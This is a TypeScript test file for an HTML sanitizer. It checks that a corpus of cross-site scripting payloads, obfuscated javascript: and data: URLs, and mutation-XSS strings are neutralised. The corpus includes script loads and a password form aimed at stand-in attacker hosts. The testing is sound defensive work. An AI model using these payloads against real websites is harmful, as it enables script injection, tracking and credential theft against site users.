import { codeLanguages } from '@drapeau/contract/code-languages.ts'
import * as fc from 'fast-check'
import { expect, test } from 'vitest'
import { cleanDescription } from './clean-description.ts'
import { cleanRichText } from './clean-rich-text.ts'

/**
 * The grammar of all possible output: in a text that matches it, no HTML parser finds an element, an attribute or a URL
 * other than these.
 */
const safeText = new RegExp(
  `^(?:${[
    '[^<>]',
    '</?(?:p|strong|em|u|s|code|pre|blockquote|ul|ol|li|h2|h3|h4|table|thead|tbody|tr|th|td)>',
    '<(?:br|hr) />',
    '<ol start="[1-9]\\d{0,3}">',
    '<t[hd] align="(?:left|center|right)">',
    `<pre><code class="language-(?:${Object.keys(codeLanguages).join('|')})">`,
    '<img data-file="[^"<>/]+" alt="[^"<>]*" />',
    '<a href="(?:https?|mailto):[^"<>\\s]*" rel="noopener noreferrer nofollow" target="_blank">|</a>',
  ].join('|')})*$`,
  'i',
)

/** Elements and attributes that run scripts, load resources or handle events. */
const active = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\x20type="text/javascript">alert(1)</script >',
  '<script>/*</script><script>*/alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://tracker.example/1.gif">',
  '<img srcset="https://tracker.example/1.gif 1x" alt="x">',
  '<picture><source srcset=x onerror=alert(1)><img></picture>',
  '<p onclick="alert(1)">press me</p>',
  '<p/onpointerover=alert(1)//>hover</p>',
  '<strong style="position:fixed;inset:0">cover</strong>',
  '<p style="background:url(https://tracker.example)">x</p>',
  '<h2 id="root" class="modal">shadow</h2>',
  '<a name="body">named</a>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>x</body>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)><option>x</select>',
  '<button formaction="javascript:alert(1)" form="f">x</button>',
  '<video src=x onerror=alert(1)></video>',
  '<audio controls src="https://tracker.example/a.mp3"></audio>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">fallback</iframe>',
  '<object data="data:text/html,<script>alert(1)</script>">x</object>',
  '<embed src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css";</style>',
  '<canvas id=c></canvas><dialog open>x</dialog>',
  '<img data-file="a.png" src="https://tracker.example/1.gif" onerror=alert(1)>',
  '<img data-file="a.png" alt="x" srcset="//tracker.example/1 1x" style="position:fixed" class=x>',
  '<img data-file="../../etc/passwd"><img data-file="https://tracker.example/1.gif"><img data-file="\\\\evil\\x">',
  '<img data-file="x&quot; onerror=&quot;alert(1)"><img data-file=\'a"b<script>.png\' alt=\'"><script>alert(1)</script>\'>',
  '<img data-file=""><img data-file><img data-src="x" data-x="1">',
  '<table background="//tracker.example/1.gif" onclick=alert(1)><tr style="position:fixed"><td colspan=99999 rowspan=99999 background=x headers=y>x',
  '<td align="x onclick=alert(1)">a</td><table><td align="JUSTIFY"><td align=right id=root>b',
  '<table><caption onclick=alert(1)>c</caption><colgroup span=100000><col></colgroup><tr><td>x</table>',
  '<pre><code class="language-js language-python evil" onclick=alert(1)>x</code></pre>',
  '<pre><code class="language-evil modal">x</code></pre><code class="language-python">x</code>',
]

/** Dangerous URLs. */
const urls = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java&#9;script:alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A&#x61&#x76&#x61script:alert(1)',
  '\u0001javascript:alert(1)',
  'java\u200bscript:alert(1)',
  'javascript&colon;alert(1)',
  'javascript://example.org/%0aalert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD4=',
  'blob:https://example.org/1',
  'file:///etc/passwd',
  'ftp://example.org',
  'filesystem:https://example.org/x',
  'view-source:https://example.org',
  'intent://scan/#Intent;scheme=zxing;end',
  '//evil.example',
  '/admin/users',
  '?_method=DELETE',
  '#top',
  'https://exa mple.org',
  'https://example.org/\u202egpj.exe',
  'http://',
  '',
]

/** Texts that parsers read differently. */
const ambiguous = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style></p></svg>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form>',
  '<template><script>alert(1)</script></template>',
  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  '<title></title><img src=x onerror=alert(1)></title>',
  '<xmp></xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<noembed><img src="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<!doctype html [<!entity x "<img onerror=alert(1)>">]>&x;',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  '<p title="<!--">x</p><p title="--><img src=x onerror=alert(1)>">y</p>',
  '<a href="https://example.org/"onmouseover="alert(1)">x</a>',
  '<a href=\'https://example.org/"onmouseover="alert(1)\'>x</a>',
  '<a href=`https://example.org` onclick=alert(1)>x</a>',
  '<p><table><td><p onclick=alert(1)>x</table>',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<isindex action=javascript:alert(1) type=image>',
  '<\u0000script>alert(1)</script>',
  '<scrıpt>alert(1)</scrıpt>',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<p <script>alert(1)</script>>',
  '<<script>script>alert(1)<</script>/script>',
  '<table><tr><td><style><!--</td></tr></table><img src=x onerror=alert(1)>--></style>',
  '<table><svg><td><img title="</svg><script>alert(1)</script>"></td></svg></table>',
  '<table><tr><script>alert(1)</script><td><table><tr><td><img src=x onerror=alert(1)></table></table>',
  '<td><strong><table></strong><tr><a href="https://example.org"><td>x</a></table>',
  '<pre><table><code class="language-c">x</table></code></pre>',
  '<img data-file="a.png" alt="<!--"><p title="--><script>alert(1)</script>">x</p>',
]

test.each(active)('X1 %s is made harmless', (payload) => {
  expect(dangerIn(payload)).toBeNull()
  expect(dangerIn(`<p>before ${payload} after</p>`)).toBeNull()
})

test.each(urls)('X2 a link to %j is removed', (address) => {
  for (const quoted of [`"${address}"`, `'${address}'`]) {
    const link = `<a href=${quoted}>words</a>`
    expect(dangerIn(link)).toBeNull()
    const cleaned = cleanRichText(link)
    expect(cleaned).not.toContain('<a')
    expect(cleaned).toContain('words')
  }
})

test.each(ambiguous)('X3 %s stays harmless when it is parsed again', (payload) => {
  expect(dangerIn(payload)).toBeNull()
  expect(dangerIn(`<ul><li>${payload}</li></ul>`)).toBeNull()
})

test('X1 the corpus is complete', () => {
  expect(new Set([...active, ...urls, ...ambiguous]).size).toBeGreaterThanOrEqual(60)
})

test('X2 a link opens in a new tab without a referrer', () => {
  for (const address of ['https://example.org/?a=1&b=2', 'http://example.org', 'mailto:help@example.org'])
    expect(cleanRichText(`<a href="${address}" target="_self" rel="opener">x</a>`)).toBe(
      `<a href="${address.replace('&', '&amp;')}" rel="noopener noreferrer nofollow" target="_blank">x</a>`,
    )
})

test('everything that the editor can produce stays unchanged', () => {
  const written = [
    '<h2>Title</h2><p>A <strong>bold</strong>, <em>slanted</em>, <u>underlined</u>, <s>struck</s> <code>word</code>.</p>',
    '<ul><li><p>one</p></li></ul><ol start="3"><li><p>three</p></li></ol><blockquote><p>said</p></blockquote>',
    '<pre><code>if (a &lt; b &amp;&amp; c &gt; d) {\n  go()\n}</code></pre><hr /><p>line<br />break</p><h3>3</h3><h4>4</h4>',
    '<p>Élève “quoted” 🚩 日本語 עברית</p>',
    '<pre><code class="language-python">print(1)\n\n</code></pre><p><img data-file="my map (1).png" alt="A &quot;map&quot; &amp; more" /></p>',
    '<table><thead><tr><th>a</th><th align="right">b</th></tr></thead><tbody><tr><td>1<br />2</td><td align="right"><strong>3</strong></td></tr></tbody></table>',
  ]
  for (const html of written) expect(cleanRichText(html)).toBe(html)
})

test('a table gets one row of headings, rows of equal length, and cells without blocks', () => {
  const table = (html: string) => cleanRichText(`<table>${html}</table>`)
  expect(table('<tr><td>a<td align=center>b<tr><td><p>c</p>\n<p>d</p><ul><li>e</li></ul>')).toBe(
    '<table><thead><tr><th>a</th><th align="center">b</th></tr></thead><tbody><tr><td>c<br />d<br />e</td><td align="center"></td></tr></tbody></table>',
  )
  expect(table('stray<tbody></tbody><tr></tr>')).toBe('stray')
  expect(table('<tr><td>a<table><tr><td>in</td><td>ner</td></tr></table>z</td></tr>')).toBe(
    '<table><thead><tr><th>a<br />in<br />ner<br />z</th></tr></thead></table>',
  )
  expect(cleanRichText('<td>loose</td> <tr>row</tr>')).toBe('loose row')
  expect(table(`<tr>${'<td>x'.repeat(40)}`).match(/<th>/g)).toHaveLength(30)
})

test('only a code block has a language, by its one name', () => {
  expect(cleanRichText('<pre><code class="x language-PY">a</code></pre>')).toContain('<code class="language-python">')
  expect(cleanRichText('<p><code class="language-c">a</code></p>')).toBe('<p><code>a</code></p>')
  expect(cleanRichText('<pre><code class="language-whitespace">a</code></pre>')).toBe('<pre><code>a</code></pre>')
})

test('lines of code end in one way, however they were sent', () => {
  expect(cleanRichText('<pre><code>a\r\nb\rc&#13;d</code></pre>')).toBe('<pre><code>a\nb\nc\nd</code></pre>')
})

test('unknown elements are removed and their text is kept', () => {
  expect(cleanRichText('<div><h1>Big</h1><figure>cell</figure><font color=red>red</font></div>')).toBe('Bigcellred')
  expect(cleanRichText('<b>bold</b> <i>slanted</i> <del>gone</del>')).toBe(
    '<strong>bold</strong> <em>slanted</em> <s>gone</s>',
  )
})

test('X3 any input is made safe, and cleaning it again changes nothing', () => {
  const names =
    'p a b svg math style script noscript template textarea title iframe table tr td th img code form ol li pre xmp'.split(
      ' ',
    )
  const tag = fc.constantFrom(...names)
  const piece = fc.oneof(
    tag.map((name) => `<${name}>`),
    tag.map((name) => `</${name}>`),
    fc.tuple(tag, fc.string()).map(([name, value]) => `<${name} href="${value}" onclick=x>`),
    fc.tuple(fc.string(), fc.string()).map(([name, words]) => `<img data-file="${name}" alt='${words}' src=x>`),
    fc.string().map((value) => `<pre><code class="language-${value}">`),
    fc.string().map((value) => `<table><td align="${value}">`),
    fc.constantFrom('<', '>', '"', "'", '&', '&lt;', '&#60', '<!--', '-->', ']]>', '<![CDATA[', '/', '=', '\0', '`'),
    fc.webUrl().map((url) => `<a href="${url}">`),
    fc.string({ unit: 'binary' }),
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
      expect(dangerIn(pieces.join(''))).toBeNull()
    }),
    { numRuns: 1_000 },
  )
})

test('a text that is empty after cleaning is reported as missing', () => {
  for (const html of [
    '<script>alert(1)</script>',
    '<img src=x>',
    '<p>&nbsp;</p>',
    '<hr>',
    '<!-- words -->',
    '<svg>x</svg>',
  ])
    expect(() => cleanDescription(html)).toThrow(
      expect.objectContaining({ code: 'invalid-input', errors: { description: 'Description is required' } }),
    )
})

test('a picture is something to read', () => {
  const picture = '<p><img data-file="map.png" alt="" /></p>'
  expect(cleanDescription(picture)).toBe(picture)
})

test('a text that exceeds the limit after cleaning is reported as too long', () => {
  expect(() => cleanDescription('&'.repeat(50_000))).toThrow(
    expect.objectContaining({ errors: { description: 'Description is too long' } }),
  )
})

test('D5 the longest hostile text is cleaned quickly', () => {
  for (const part of [
    '<p>',
    '<',
    '&',
    '<a href="https://x">',
    '<svg>',
    '<!--',
    '<iframe>',
    '<li><ul>',
    '</p>',
    '<td>',
    '<table>',
    '<table><td>',
    ' ',
    '<br>',
  ]) {
    const before = process.threadCpuUsage()
    cleanRichText(part.repeat(Math.floor(50_000 / part.length)))
    cleanRichText(`<table><td>${part.repeat(Math.floor(49_000 / part.length))}`)
    const { user, system } = process.threadCpuUsage(before)
    expect((user + system) / 1000).toBeLessThan(2_000)
  }
})

/** Null if the output is safe and stable, else the output. */
function dangerIn(html: string): string | null {
  const cleaned = cleanRichText(html)
  return safeText.test(cleaned) && cleanRichText(cleaned) === cleaned ? null : cleaned
}
